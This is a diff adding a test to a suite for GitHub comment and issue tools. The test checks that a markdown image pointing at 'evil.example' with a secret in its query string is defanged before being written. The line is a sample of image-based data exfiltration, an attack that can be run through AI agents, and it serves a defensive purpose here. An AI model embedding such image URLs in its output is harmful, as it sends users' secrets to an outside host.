@@ -165,6 +165,16 @@ describe("issues", () => {
   });
 });
 
+describe("what tools write", () => {
+  test("has no images from elsewhere", async () => {
+    const body = "![](https://evil.example/?q=secret)";
+    await json(postComment({ ...REPO, issue_number: 77, body }, context()));
+    await json(createIssue({ ...REPO, title: "New", body }, context()));
+    const written = [github.commentsOn("octo/hello#77").at(-1), github.issues.at(-1)];
+    expect(written.map((one) => one?.body.split("\n").at(-1))).toEqual([body.slice(1), body.slice(1)]);
+  });
+});
+
 describe("commits, branches", () => {
   test("github_list_commits gives 20 unless told otherwise, and passes its filters on", async () => {
     const commits = await json(listCommits(REPO, context()));
